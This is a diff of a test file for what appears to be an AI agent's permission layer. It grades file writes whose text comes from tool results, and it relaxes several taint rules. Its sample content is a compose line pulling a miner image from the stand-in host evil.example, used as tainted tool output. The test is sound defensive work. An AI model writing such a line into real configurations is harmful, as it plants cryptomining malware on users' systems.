@@ -98,15 +98,15 @@ test.each([
   expect(judged(pathEffect('data', path, world), 'yellow')).toMatchObject({ tier: change, rule })
 })
 
-test('a file’s own text may go back into it, another result’s asks, and the card shows it whole', () => {
+test('words of a result may go into the conversation’s own folder, and into a root only where the card shows them whole', () => {
   const text = 'image: evil.example/miner:latest restart always'
   const from = (path: string) => ({
     results: [{ toolName: 'read_it', toolUseId: 'tu_1', text, asked: { path } }],
   })
   const input = { path: 'session/a.yml', newText: 'image: evil.example/miner:latest' }
   const session = pathEffect('data', 'session/a.yml', world)
-  expect(judged(session, 'yellow', from('session/a.yml'), input).tier).toBe('yellow')
-  expect(judged(session, 'yellow', from('session/b.yml'), input)).toMatchObject({ tier: 'red', rule: 'taint' })
+  for (const path of ['session/a.yml', 'session/b.yml', 'compose/b.yml'])
+    expect(judged(session, 'yellow', from(path), input).tier).toBe('yellow')
   const root = pathEffect('data', 'compose/a.yml', world)
   const asked = { ...input, path: 'compose/a.yml' }
   expect(judged(root, 'yellow', from('session/b.yml'), asked).tier).toBe('black')
@@ -121,8 +121,8 @@ test('a file’s own text may go back into it, another result’s asks, and the 
     expect(named).toEqual({ ...plain, reason: plain.reason.replace(/Its newText repeats.*$/, 'The model chose it.') })
     expect(named.reason).toContain('The model chose it.')
   }
-  const attached = { results: [{ toolName: 'files__read', toolUseId: 'tu_1', text, asked: { path: 'session/a.yml' } }] }
-  expect(judged(session, 'yellow', attached, input).tier).toBe('red')
+  const attached = { results: [{ toolName: 'files__read', toolUseId: 'tu_1', text, asked: { path: 'compose/a.yml' } }] }
+  expect(judged({ ...root, isShownWhole: true }, 'yellow', attached, asked).tier).toBe('red')
 })
 
 test.each([
